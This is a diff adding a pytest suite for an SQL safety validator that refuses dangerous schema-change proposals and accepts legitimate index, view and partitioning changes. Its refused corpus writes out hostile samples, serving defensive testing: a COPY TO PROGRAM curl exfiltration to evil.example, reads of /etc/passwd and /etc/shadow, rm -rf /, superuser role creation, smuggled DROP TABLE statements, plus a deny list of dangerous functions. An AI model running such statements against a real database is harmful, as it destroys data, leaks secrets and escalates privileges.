@@ -1,0 +1,498 @@
+"""The SQL safety gate: a corpus of dangerous statements (all refused) and legitimate ones."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import pglast
+import pytest
+
+from afs.errors import InputError, UnsafeSqlError
+from afs.models import RiskLevel, ValidationResult
+from afs.safety import check_query, denied_function, split_statements, validate_proposal
+
+
+# -- dangerous proposals -----------------------------------------------------------------------
+@dataclass(frozen=True)
+class Bad:
+    id: str
+    commands: tuple[str, ...]
+    reason: str  # a fragment of the refusal reason of `culprit`
+    proposal_type: str = "index"
+    culprit: int = -1  # index of the refused command (default: the last one)
+
+
+PARTITION_PREFIX = (
+    "CREATE TABLE orders_p (LIKE orders INCLUDING ALL) PARTITION BY RANGE (created_at)",
+    "CREATE TABLE orders_p_2024 PARTITION OF orders_p FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')",
+    "INSERT INTO orders_p SELECT * FROM orders",
+)
+
+DANGEROUS: list[Bad] = [
+    # smuggled and hidden statements
+    Bad("smuggled-drop", ("CREATE INDEX i ON t (a); DROP TABLE t",), "several statements in one command"),
+    Bad("smuggled-after-comment", ("CREATE INDEX i ON t (a) -- harmless\n; DROP TABLE t",),
+        "several statements in one command"),
+    Bad("smuggled-in-block-comment-end", ("CREATE INDEX i ON t (a) /* x */; /* y */ DELETE FROM t",),
+        "several statements in one command"),
+    Bad("comment-before-drop", ("/* just an index */ DROP TABLE t",), "partitioning"),
+    Bad("comment-only", ("-- DROP TABLE t",), "empty command"),
+    Bad("empty-command", ("",), "empty command"),
+    Bad("whitespace-command", ("   \n\t ",), "empty command"),
+    Bad("empty-proposal", (), "no commands"),
+    Bad("garbage", ("this is not sql",), "does not parse"),
+    Bad("typo", ("CREAT INDEX i ON t (a)",), "does not parse"),
+    Bad("psql-meta", ("\\! rm -rf /",), "does not parse"),
+    Bad("truncated-index", ("CREATE INDEX i ON",), "does not parse"),
+    # code, files, configuration, privileges
+    Bad("do-block", ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",), "DO blocks"),
+    Bad("copy-to-program", ("COPY t TO PROGRAM 'curl -d @- evil.example'",), "COPY"),
+    Bad("copy-from-file", ("COPY t FROM '/etc/passwd'",), "COPY"),
+    Bad("copy-query-stdout", ("COPY (SELECT * FROM t) TO STDOUT",), "COPY"),
+    Bad("alter-system", ("ALTER SYSTEM SET shared_buffers = '8GB'",), "ALTER SYSTEM"),
+    Bad("set-role", ("SET ROLE postgres",), "ROLE"),
+    Bad("set-local-role", ("SET LOCAL ROLE postgres",), "ROLE"),
+    Bad("reset-role", ("RESET ROLE",), "ROLE"),
+    Bad("set-session-authorization", ("SET SESSION AUTHORIZATION postgres",), "SESSION AUTHORIZATION"),
+    Bad("set-guc", ("SET work_mem = '1GB'",), "SET changes session settings"),
+    Bad("grant", ("GRANT ALL ON t TO PUBLIC",), "GRANT/REVOKE"),
+    Bad("revoke", ("REVOKE SELECT ON t FROM app",), "GRANT/REVOKE"),
+    Bad("grant-role", ("GRANT pg_read_server_files TO app",), "GRANT/REVOKE"),
+    Bad("create-role", ("CREATE ROLE evil SUPERUSER LOGIN",), "roles"),
+    Bad("create-user", ("CREATE USER evil PASSWORD 'x'",), "roles"),
+    Bad("alter-user", ("ALTER USER app WITH SUPERUSER",), "roles"),
+    Bad("drop-role", ("DROP ROLE app",), "roles"),
+    Bad("create-function", ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",), "FUNCTION"),
+    Bad("create-procedure", ("CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'",), "PROCEDURE"),
+    Bad("create-trigger", ("CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",),
+        "TRIGGER"),
+    Bad("create-rule", ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",), "RULE"),
+    Bad("create-extension", ("CREATE EXTENSION dblink",), "EXTENSION"),
+    Bad("call", ("CALL p()",), "CALL"),
+    Bad("drop-database", ("DROP DATABASE prod",), "DROP DATABASE"),
+    Bad("drop-schema", ("DROP SCHEMA public CASCADE",), "DROP SCHEMA"),
+    Bad("create-database", ("CREATE DATABASE copy TEMPLATE prod",), "CREATE DATABASE"),
+    Bad("vacuum-full", ("VACUUM FULL t",), "VACUUM"),
+    Bad("vacuum", ("VACUUM t",), "VACUUM"),
+    Bad("vacuum-analyze", ("VACUUM ANALYZE t",), "VACUUM"),
+    Bad("cluster", ("CLUSTER t USING t_pkey",), "CLUSTER"),
+    Bad("reindex", ("REINDEX TABLE t",), "REINDEX"),
+    Bad("lock", ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE",), "LOCK"),
+    Bad("listen", ("LISTEN ch",), "LISTEN/NOTIFY"),
+    Bad("notify", ("NOTIFY ch, 'x'",), "LISTEN/NOTIFY"),
+    Bad("prepare", ("PREPARE p AS DELETE FROM t",), "PREPARE/EXECUTE"),
+    Bad("execute", ("EXECUTE p",), "PREPARE/EXECUTE"),
+    Bad("discard", ("DISCARD ALL",), "DISCARD"),
+    Bad("load", ("LOAD '/tmp/evil.so'",), "LOAD"),
+    Bad("security-label", ("SECURITY LABEL FOR selinux ON TABLE t IS 'x'",), "SECURITY LABEL"),
+    Bad("comment-on", ("COMMENT ON TABLE t IS 'x'",), "COMMENT ON"),
+    Bad("checkpoint", ("CHECKPOINT",), "CHECKPOINT"),
+    Bad("begin", ("BEGIN",), "transaction control"),
+    Bad("commit", ("COMMIT",), "transaction control"),
+    Bad("rollback", ("ROLLBACK",), "transaction control"),
+    Bad("savepoint", ("SAVEPOINT s",), "transaction control"),
+    Bad("explain", ("EXPLAIN ANALYZE DELETE FROM t",), "EXPLAIN"),
+    Bad("create-server", ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",), "foreign"),
+    Bad("alter-owner", ("ALTER TABLE t OWNER TO evil",), "partitioning"),
+    # data
+    Bad("truncate", ("TRUNCATE t",), "TRUNCATE"),
+    Bad("delete", ("DELETE FROM t",), "DELETE"),
+    Bad("update", ("UPDATE t SET a = 1",), "UPDATE"),
+    Bad("merge", ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",), "MERGE"),
+    Bad("ctas", ("CREATE TABLE t2 AS SELECT * FROM t",), "CREATE TABLE AS"),
+    Bad("ctas-in-partitioning", ("CREATE TABLE t2 AS SELECT * FROM t",), "CREATE TABLE AS", "partitioning"),
+    Bad("select-into", ("SELECT * INTO t2 FROM t",), "SELECT INTO"),
+    Bad("plain-select", ("SELECT * FROM t",), "not a schema change"),
+    Bad("select-side-effect", ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",),
+        "pg_terminate_backend"),
+    # side effects hidden in allowed statement types
+    Bad("terminate-in-index-expression", ("CREATE INDEX i ON t ((pg_terminate_backend(a)))",),
+        "calls pg_terminate_backend()"),
+    Bad("qualified-terminate-in-index", ("CREATE INDEX i ON t ((pg_catalog.pg_terminate_backend(a)))",),
+        "pg_terminate_backend"),
+    Bad("sleep-in-partial-index", ("CREATE INDEX i ON t (a) WHERE pg_sleep(1) IS NULL",), "pg_sleep"),
+    Bad("dblink-exec-in-index", ("CREATE INDEX i ON t (a) WHERE dblink_exec('x', 'DROP TABLE t') = 'x'",),
+        "dblink_exec"),
+    Bad("dblink-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM dblink('host=evil', "
+                         "'SELECT secret FROM vault') AS r(secret text)",), "dblink"),
+    Bad("nextval-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT nextval('s') AS n",), "nextval"),
+    Bad("lo-import-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT lo_import('/etc/passwd')",), "lo_import"),
+    Bad("read-file-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT pg_read_file('/etc/passwd')",),
+        "pg_read_file"),
+    Bad("set-config-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT set_config('role', 'postgres', false)",),
+        "set_config"),
+    Bad("advisory-lock-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT pg_advisory_lock(1)",), "advisory"),
+    Bad("query-to-xml-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT query_to_xml('DELETE FROM t', "
+                               "true, true, '')",), "query_to_xml"),
+    Bad("deep-subquery-side-effect", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t WHERE a IN "
+                                      "(SELECT pg_cancel_backend(pid) FROM pg_stat_activity)",),
+        "pg_cancel_backend"),
+    Bad("modifying-cte-in-mv", ("CREATE MATERIALIZED VIEW mv AS WITH d AS (DELETE FROM t RETURNING *) "
+                                "SELECT * FROM d",), "data-modifying"),
+    Bad("for-update-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t FOR UPDATE",), "FOR UPDATE"),
+    # index and view details outside the allow-list
+    Bad("index-on-catalog", ("CREATE INDEX i ON pg_catalog.pg_class (relname)",), "system schema"),
+    Bad("index-unknown-am", ("CREATE INDEX i ON t USING bloom (a)",), "access method bloom"),
+    Bad("index-tablespace", ("CREATE INDEX i ON t (a) TABLESPACE fast",), "TABLESPACE"),
+    Bad("plain-view", ("CREATE VIEW v AS SELECT * FROM t",), "materialized view"),
+    Bad("drop-index", ("DROP INDEX i",), "DROP INDEX"),
+    Bad("drop-mv", ("DROP MATERIALIZED VIEW mv",), "DROP MATERIALIZED VIEW"),
+    Bad("create-sequence", ("CREATE SEQUENCE s",), "CREATE SEQUENCE"),
+    # partitioning steps outside a partitioning proposal
+    Bad("create-partitioned-outside", ("CREATE TABLE p (LIKE t) PARTITION BY RANGE (a)",), "partitioning"),
+    Bad("partition-of-outside", ("CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (2)",),
+        "partitioning", "materialized_view"),
+    Bad("insert-select-outside", ("INSERT INTO p SELECT * FROM t",), "partitioning"),
+    Bad("rename-outside", ("ALTER TABLE t RENAME TO t_old",), "partitioning", "materialized_view"),
+    Bad("attach-outside", ("ALTER TABLE p ATTACH PARTITION p1 FOR VALUES FROM (1) TO (2)",), "partitioning"),
+    Bad("drop-table-outside", ("DROP TABLE t",), "partitioning", "composite_index"),
+    # partitioning proposals that go too far
+    Bad("drop-cascade-in-partitioning", (*PARTITION_PREFIX, "DROP TABLE orders CASCADE"), "CASCADE",
+        "partitioning"),
+    Bad("drop-unrelated-in-partitioning", (*PARTITION_PREFIX, "DROP TABLE customers"),
+        "table being replaced", "partitioning"),
+    Bad("drop-before-copy", ("CREATE TABLE orders_p (LIKE orders) PARTITION BY RANGE (created_at)",
+                             "DROP TABLE orders"), "table being replaced", "partitioning"),
+    Bad("drop-two-tables", (*PARTITION_PREFIX, "DROP TABLE orders, customers"), "several tables",
+        "partitioning"),
+    Bad("insert-values", (*PARTITION_PREFIX[:2], "INSERT INTO orders_p VALUES (1, now())"),
+        "INSERT INTO <table> SELECT", "partitioning"),
+    Bad("insert-into-existing", (*PARTITION_PREFIX[:2], "INSERT INTO customers SELECT * FROM orders"),
+        "created earlier", "partitioning"),
+    Bad("insert-on-conflict", (*PARTITION_PREFIX[:2],
+                               "INSERT INTO orders_p SELECT * FROM orders ON CONFLICT DO NOTHING"),
+        "ON CONFLICT", "partitioning"),
+    Bad("insert-with-cte", (*PARTITION_PREFIX[:2], "WITH d AS (DELETE FROM orders RETURNING *) "
+                            "INSERT INTO orders_p SELECT * FROM d"), "WITH", "partitioning"),
+    Bad("insert-returning", (*PARTITION_PREFIX[:2], "INSERT INTO orders_p SELECT * FROM orders RETURNING id"),
+        "RETURNING", "partitioning"),
+    Bad("alter-drop-column", ("ALTER TABLE orders DROP COLUMN note",), "ATTACH PARTITION", "partitioning"),
+    Bad("alter-add-column", ("ALTER TABLE orders ADD COLUMN x int",), "ATTACH PARTITION", "partitioning"),
+    Bad("detach-partition", ("ALTER TABLE orders DETACH PARTITION orders_2024",), "ATTACH PARTITION",
+        "partitioning"),
+    Bad("rename-column", ("ALTER TABLE orders RENAME COLUMN note TO memo",), "RENAME TO", "partitioning"),
+    Bad("rename-index", ("ALTER INDEX i RENAME TO j",), "RENAME TO", "partitioning"),
+    Bad("plain-create-table", ("CREATE TABLE x (a int)",), "PARTITION BY", "partitioning"),
+    Bad("unlogged-table", ("CREATE UNLOGGED TABLE x (LIKE orders)",), "UNLOGGED", "partitioning"),
+    Bad("temp-table", ("CREATE TEMP TABLE x (LIKE orders)",), "TEMPORARY", "partitioning"),
+    Bad("inherits", ("CREATE TABLE x (LIKE orders) INHERITS (orders)",), "INHERITS", "partitioning"),
+    Bad("nextval-default-in-partitioning",
+        ("CREATE TABLE x (id bigint DEFAULT nextval('s'), d date) PARTITION BY RANGE (d)",), "nextval",
+        "partitioning"),
+    Bad("one-bad-among-good", ("CREATE INDEX i ON t (a)", "DROP TABLE t", "ANALYZE t"), "partitioning",
+        culprit=1),
+]
+
+
+@pytest.mark.parametrize("case", DANGEROUS, ids=[c.id for c in DANGEROUS])
+def test_dangerous_statements_are_refused(case: Bad) -> None:
+    result = validate_proposal(case.commands, case.proposal_type)
+    assert not result.is_valid
+    assert result.risk_level == "high"
+    assert result.reversibility == 0.0
+    assert result.rejected
+    if case.commands:
+        culprit = case.commands[case.culprit]
+        reasons = [r.reason for r in result.rejected if r.statement == culprit]
+        assert reasons, result.rejected
+        assert any(case.reason in r for r in reasons), reasons
+    else:
+        assert case.reason in result.rejected[0].reason
+
+
+def test_corpus_sizes() -> None:
+    assert len(DANGEROUS) >= 40
+    assert len(LEGITIMATE) >= 20
+    assert len({c.id for c in DANGEROUS}) == len(DANGEROUS)
+    assert len({c.id for c in LEGITIMATE}) == len(LEGITIMATE)
+
+
+def test_every_refusal_is_reported_and_the_rest_still_judged() -> None:
+    result = validate_proposal(["CREATE INDEX i ON t (a)", "DROP TABLE t", "GRANT ALL ON t TO x"], "index")
+    assert not result.is_valid
+    assert [r.statement for r in result.rejected] == ["DROP TABLE t", "GRANT ALL ON t TO x"]
+    assert result.rollback_commands == ("DROP INDEX IF EXISTS i",)
+
+
+# -- legitimate proposals -------------------------------------------------------------------
+@dataclass(frozen=True)
+class Good:
+    id: str
+    commands: tuple[str, ...]
+    risk: RiskLevel
+    rollback: tuple[str, ...]
+    proposal_type: str = "index"
+    reversibility: float = 1.0
+    warning: str | None = None  # a fragment one of the warnings must contain
+
+
+NO_CONCURRENTLY = "without CONCURRENTLY"
+
+LEGITIMATE: list[Good] = [
+    Good("plain-index", ("CREATE INDEX idx_orders_customer ON orders (customer_id)",), "low",
+         ("DROP INDEX IF EXISTS idx_orders_customer",), warning=NO_CONCURRENTLY),
+    Good("concurrently", ("CREATE INDEX CONCURRENTLY idx_c ON orders (customer_id)",), "low",
+         ("DROP INDEX IF EXISTS idx_c",)),
+    Good("if-not-exists", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_c ON orders (customer_id)",), "low",
+         ("DROP INDEX IF EXISTS idx_c",), warning="IF NOT EXISTS"),
+    Good("partial", ("CREATE INDEX idx_pending ON orders (created_at) WHERE status = 'pending'",), "low",
+         ("DROP INDEX IF EXISTS idx_pending",), "partial_index"),
+    Good("covering", ("CREATE INDEX idx_cov ON orders (customer_id) INCLUDE (total, status)",), "low",
+         ("DROP INDEX IF EXISTS idx_cov",)),
+    Good("composite", ("CREATE INDEX idx_comp ON orders (customer_id, created_at DESC NULLS LAST)",), "low",
+         ("DROP INDEX IF EXISTS idx_comp",), "composite_index"),
+    Good("expression", ("CREATE INDEX idx_email ON users (lower(email))",), "low",
+         ("DROP INDEX IF EXISTS idx_email",)),
+    Good("explicit-btree", ("CREATE INDEX idx_b ON orders USING btree (status)",), "low",
+         ("DROP INDEX IF EXISTS idx_b",)),
+    Good("hash", ("CREATE INDEX idx_h ON orders USING hash (token)",), "low",
+         ("DROP INDEX IF EXISTS idx_h",)),
+    Good("brin", ("CREATE INDEX idx_brin ON events USING brin (created_at) WITH (pages_per_range = 32)",),
+         "medium", ("DROP INDEX IF EXISTS idx_brin",)),
+    Good("gin", ("CREATE INDEX idx_tags ON posts USING gin (tags)",), "medium",
+         ("DROP INDEX IF EXISTS idx_tags",)),
+    Good("gist", ("CREATE INDEX idx_span ON bookings USING gist (during)",), "medium",
+         ("DROP INDEX IF EXISTS idx_span",)),
+    Good("unique", ("CREATE UNIQUE INDEX CONCURRENTLY idx_u ON users (email) NULLS NOT DISTINCT",), "medium",
+         ("DROP INDEX IF EXISTS idx_u",), warning="duplicates"),
+    Good("schema-qualified", ("CREATE INDEX idx_s ON sales.orders (customer_id)",), "low",
+         ("DROP INDEX IF EXISTS sales.idx_s",)),
+    Good("quoted-names", ('CREATE INDEX "Idx Mixed" ON "Orders" ("CustomerId")',), "low",
+         ('DROP INDEX IF EXISTS "Idx Mixed"',)),
+    Good("unnamed-index", ("CREATE INDEX ON orders (customer_id)",), "low", (), reversibility=0.5,
+         warning="index name missing"),
+    Good("comment-and-semicolon", ("/* covering */ CREATE INDEX idx_x ON orders (a); -- done",), "low",
+         ("DROP INDEX IF EXISTS idx_x",)),
+    Good("harmless-function-in-index", ("CREATE INDEX idx_day ON events (date_trunc('day', created_at))",),
+         "low", ("DROP INDEX IF EXISTS idx_day",)),
+    Good("analyze", ("ANALYZE orders",), "low", ()),
+    Good("analyze-all", ("ANALYZE",), "low", (), warning="whole database"),
+    Good("analyze-verbose-columns", ("ANALYZE (VERBOSE) orders (customer_id, status)",), "low", ()),
+    Good("index-then-analyze", ("CREATE INDEX CONCURRENTLY idx_a ON orders (a)", "ANALYZE orders"), "low",
+         ("DROP INDEX IF EXISTS idx_a",)),
+    Good("two-indexes", ("CREATE INDEX idx_1 ON orders (a)", "CREATE INDEX idx_2 ON orders USING brin (b)"),
+         "medium", ("DROP INDEX IF EXISTS idx_2", "DROP INDEX IF EXISTS idx_1")),
+    Good("materialized-view",
+         ("CREATE MATERIALIZED VIEW daily_totals AS SELECT date_trunc('day', created_at) AS day, "
+          "sum(total) AS total FROM orders GROUP BY 1",),
+         "medium", ("DROP MATERIALIZED VIEW IF EXISTS daily_totals",), "materialized_view",
+         warning="REFRESH"),
+    Good("mv-with-index-and-refresh",
+         ("CREATE MATERIALIZED VIEW mv AS WITH c AS (SELECT customer_id, count(*) AS n FROM orders "
+          "GROUP BY customer_id) SELECT c.*, rank() OVER (ORDER BY n DESC) AS r FROM c "
+          "UNION ALL SELECT 0, 0, 0",
+          "CREATE UNIQUE INDEX mv_customer ON mv (customer_id)",
+          "REFRESH MATERIALIZED VIEW CONCURRENTLY mv"),
+         "medium", ("DROP INDEX IF EXISTS mv_customer", "DROP MATERIALIZED VIEW IF EXISTS mv"),
+         "materialized_view"),
+    Good("mv-no-data", ("CREATE MATERIALIZED VIEW reports.mv AS SELECT 1 AS one WITH NO DATA",
+                        "REFRESH MATERIALIZED VIEW reports.mv"),
+         "medium", ("DROP MATERIALIZED VIEW IF EXISTS reports.mv",), "materialized_view",
+         warning="WITH NO DATA"),
+    Good("refresh-only", ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv",), "medium", (), "materialized_view"),
+    Good("partitioning-recipe",
+         (*PARTITION_PREFIX,
+          "CREATE TABLE orders_p_2025 PARTITION OF orders_p FOR VALUES FROM ('2025-01-01') TO ('2026-01-01')",
+          "ALTER TABLE orders RENAME TO orders_old",
+          "ALTER TABLE orders_p RENAME TO orders",
+          "ANALYZE orders"),
+         "high",
+         ("ALTER TABLE IF EXISTS orders RENAME TO orders_p",
+          "ALTER TABLE IF EXISTS orders_old RENAME TO orders",
+          "DROP TABLE IF EXISTS orders_p_2025",
+          "DROP TABLE IF EXISTS orders_p_2024",
+          "DROP TABLE IF EXISTS orders_p"),
+         "partitioning", 0.7, warning="best effort"),
+    Good("partitioning-with-drop",
+         (*PARTITION_PREFIX,
+          "ALTER TABLE orders RENAME TO orders_old",
+          "ALTER TABLE orders_p RENAME TO orders",
+          "DROP TABLE orders_old",
+          "CREATE INDEX orders_created ON orders (created_at)"),
+         "high", ("DROP INDEX IF EXISTS orders_created",), "partitioning", 0.2, warning="cannot be undone"),
+    Good("partitioning-rename-first",
+         ("ALTER TABLE public.events RENAME TO events_old",
+          "CREATE TABLE events (id bigint NOT NULL, kind text, at timestamptz NOT NULL) "
+          "PARTITION BY LIST (kind)",
+          "CREATE TABLE events_click PARTITION OF events FOR VALUES IN ('click')",
+          "CREATE TABLE events_other PARTITION OF events DEFAULT",
+          "INSERT INTO events (id, kind, at) SELECT id, kind, at FROM events_old",
+          "DROP TABLE events_old"),
+         "high", (), "partitioning", 0.2),
+    Good("partitioning-attach",
+         ("CREATE TABLE m (LIKE metrics INCLUDING DEFAULTS) PARTITION BY HASH (device_id)",
+          "CREATE TABLE m0 (LIKE metrics)",
+          "ALTER TABLE m ATTACH PARTITION m0 FOR VALUES WITH (MODULUS 2, REMAINDER 0)",
+          "CREATE TABLE m1 PARTITION OF m FOR VALUES WITH (MODULUS 2, REMAINDER 1)",
+          "INSERT INTO m SELECT * FROM metrics"),
+         "high",
+         ("DROP TABLE IF EXISTS m1",
+          "ALTER TABLE IF EXISTS m DETACH PARTITION m0",
+          "DROP TABLE IF EXISTS m0",
+          "DROP TABLE IF EXISTS m"),
+         "partitioning", 0.8, warning="copies every row"),
+    Good("partitioning-drops-its-own-table",
+         ("CREATE TABLE scratch (LIKE orders)", "DROP TABLE scratch"),
+         "high", ("DROP TABLE IF EXISTS scratch",), "partitioning", 0.8),
+]
+
+
+@pytest.mark.parametrize("case", LEGITIMATE, ids=[c.id for c in LEGITIMATE])
+def test_legitimate_statements_pass(case: Good) -> None:
+    result = validate_proposal(case.commands, case.proposal_type)
+    assert result.rejected == ()
+    assert result.is_valid
+    assert result.risk_level == case.risk
+    assert result.rollback_commands == case.rollback
+    assert result.reversibility == pytest.approx(case.reversibility)
+    if case.warning is not None:
+        assert any(case.warning in w for w in result.warnings), result.warnings
+    for command in result.rollback_commands:  # rollback SQL is itself one parseable statement
+        assert len(pglast.parse_sql(command)) == 1
+
+
+def test_concurrently_index_has_no_lock_warning() -> None:
+    result = validate_proposal(["CREATE INDEX CONCURRENTLY i ON t (a)"], "index")
+    assert not any(NO_CONCURRENTLY in w for w in result.warnings)
+    assert any(NO_CONCURRENTLY in w for w in validate_proposal(["CREATE INDEX i ON t (a)"], "index").warnings)
+
+
+def test_warnings_are_not_repeated() -> None:
+    result = validate_proposal(["CREATE INDEX a ON t (a)", "CREATE INDEX b ON t (b)"], "index")
+    assert len([w for w in result.warnings if NO_CONCURRENTLY in w]) == 1
+
+
+def test_a_single_string_counts_as_one_command() -> None:
+    result = validate_proposal("CREATE INDEX i ON t (a)", "index")
+    assert result.is_valid
+
+
+def test_unknown_proposal_type_is_an_input_error() -> None:
+    with pytest.raises(InputError, match="unknown proposal type"):
+        validate_proposal(["CREATE INDEX i ON t (a)"], "yolo")
+
+
+def test_result_type() -> None:
+    assert isinstance(validate_proposal(["ANALYZE"], "index"), ValidationResult)
+
+
+# -- the query to optimize --------------------------------------------------------------------
+@pytest.mark.parametrize(("sql", "expected"), [
+    ("SELECT * FROM orders WHERE customer_id = 42", "SELECT * FROM orders WHERE customer_id = 42"),
+    ("  select 1;  ", "select 1"),
+    ("SELECT 1 -- trailing comment\n; /* another */", "SELECT 1"),
+    ("WITH c AS (SELECT customer_id, count(*) n FROM orders GROUP BY 1) SELECT * FROM c ORDER BY n DESC",
+     None),
+    ("SELECT customer_id, sum(total) OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders", None),
+    ("SELECT a FROM t UNION SELECT a FROM u EXCEPT SELECT a FROM v", None),
+    ("VALUES (1, 'a'), (2, 'b')", None),
+    ("TABLE orders", None),
+    ("SELECT * FROM t WHERE a IN (SELECT a FROM u WHERE u.b > now() - interval '1 day')", None),
+    ("SELECT txid_current()", None),
+    ("SELECT * FROM orders o JOIN LATERAL (SELECT * FROM items i WHERE i.order_id = o.id LIMIT 3) x ON true",
+     None),
+    ("SELECT 'é; DROP TABLE t' AS s", "SELECT 'é; DROP TABLE t' AS s"),
+    ("/*+ SeqScan(t) */ SELECT * FROM t; -- planner hints stay", "/*+ SeqScan(t) */ SELECT * FROM t"),
+    ("-- the slow report\nSELECT 1", "-- the slow report\nSELECT 1"),
+    ("; SELECT 1", "SELECT 1"),
+])
+def test_check_query_accepts_read_only_selects(sql: str, expected: str | None) -> None:
+    assert check_query(sql) == (expected if expected is not None else sql)
+
+
+def test_check_query_result_can_be_wrapped() -> None:
+    query = check_query("SELECT a FROM t -- the slow one\n")
+    wrapped = f"SELECT count(*) FROM ({query}) q"
+    assert len(pglast.parse_sql(wrapped)) == 1
+
+
+@pytest.mark.parametrize(("sql", "reason"), [
+    ("", "empty query"),
+    ("   \n ", "empty query"),
+    ("-- just a comment", "empty query"),
+    ("/* SELECT 1 */", "empty query"),
+    ("SELECT 1; SELECT 2", "several statements"),
+    ("SELECT 1; DROP TABLE t", "several statements"),
+    ("SELECT 1 /* ; */ ; -- x\n DELETE FROM t", "several statements"),
+    ("SELEC * FRM t", "does not parse"),
+    ("SELECT * FROM", "does not parse"),
+    ("DELETE FROM t", "DELETE"),
+    ("INSERT INTO t VALUES (1)", "INSERT"),
+    ("UPDATE t SET a = 1", "UPDATE"),
+    ("CREATE INDEX i ON t (a)", "CREATE INDEX"),
+    ("EXPLAIN SELECT 1", "EXPLAIN"),
+    ("COPY t TO STDOUT", "COPY"),
+    ("SELECT * INTO t2 FROM t", "SELECT INTO"),
+    ("SELECT * FROM t FOR UPDATE", "FOR UPDATE"),
+    ("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "FOR UPDATE"),
+    ("SELECT * FROM (SELECT * FROM t FOR SHARE) s", "FOR UPDATE/SHARE"),
+    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "data-modifying"),
+    ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u", "data-modifying"),
+    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "data-modifying"),
+    ("SELECT pg_sleep(10)", "pg_sleep"),
+    ("SELECT * FROM t, LATERAL pg_sleep(1)", "pg_sleep"),
+    ("SELECT * FROM ROWS FROM (pg_sleep(1))", "pg_sleep"),
+    ('SELECT U&"pg\\005fsleep"(1)', "pg_sleep"),
+    ('SELECT "pg_sleep"(1)', "pg_sleep"),
+    ("SELECT a FROM t ORDER BY pg_sleep(1)", "pg_sleep"),
+    ("SELECT pg_catalog.pg_sleep_for('1 minute')", "pg_sleep_for"),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
+    ("SELECT * FROM t WHERE a = (SELECT pg_cancel_backend(1)::int)", "pg_cancel_backend"),
+    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "dblink"),
+    ("SELECT nextval('orders_id_seq')", "nextval"),
+    ("SELECT setval('orders_id_seq', 1)", "setval"),
+    ("SELECT set_config('work_mem', '1GB', false)", "set_config"),
+    ("SELECT pg_reload_conf()", "pg_reload_conf"),
+    ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
+    ("SELECT pg_read_binary_file('/etc/shadow')", "pg_read_binary_file"),
+    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
+    ("SELECT pg_try_advisory_lock(1)", "advisory"),
+    ("SELECT pg_notify('ch', 'x')", "pg_notify"),
+    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "replication_slot"),
+    ("SELECT pg_switch_wal()", "pg_switch_wal"),
+    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", "query_to_xml"),
+    ("SELECT count(*) FROM t GROUP BY a HAVING max(pg_logical_emit_message(true, 'x', 'y')::text) > ''",
+     "pg_logical_emit_message"),
+])
+def test_check_query_refuses(sql: str, reason: str) -> None:
+    with pytest.raises(UnsafeSqlError) as info:
+        check_query(sql)
+    assert reason in info.value.reason
+    assert isinstance(info.value.statement, str)
+
+
+# -- splitting scripts ------------------------------------------------------------------------
+def test_split_statements() -> None:
+    script = """
+        -- the index
+        CREATE INDEX i ON t (a);  /* then */
+        ANALYZE t; -- stats
+        SELECT ';' AS semicolon_in_string;
+    """
+    assert split_statements(script) == [
+        "CREATE INDEX i ON t (a)", "ANALYZE t", "SELECT ';' AS semicolon_in_string",
+    ]
+    assert split_statements("  -- nothing\n ") == []
+
+
+def test_split_statements_keeps_broken_pieces_for_judging() -> None:
+    pieces = split_statements("CREATE INDEX i ON t (a); THIS IS NOT SQL; ANALYZE t")
+    assert pieces == ["CREATE INDEX i ON t (a)", "THIS IS NOT SQL", "ANALYZE t"]
+    result = validate_proposal(pieces, "index")
+    assert [r.statement for r in result.rejected] == ["THIS IS NOT SQL"]
+
+
+def test_split_statements_refuses_what_cannot_be_scanned() -> None:
+    with pytest.raises(UnsafeSqlError, match="does not parse"):
+        split_statements("SELECT 'unterminated")
+
+
+def test_denied_function_names() -> None:
+    assert denied_function(("pg_catalog", "pg_sleep"))
+    assert denied_function(("dblink_exec",))
+    assert denied_function(("cron", "schedule"))
+    assert denied_function(("PG_TERMINATE_BACKEND",))
+    assert not denied_function(("count",))
+    assert not denied_function(("txid_current",))
+    assert not denied_function(("date_trunc",))
+    assert not denied_function(())
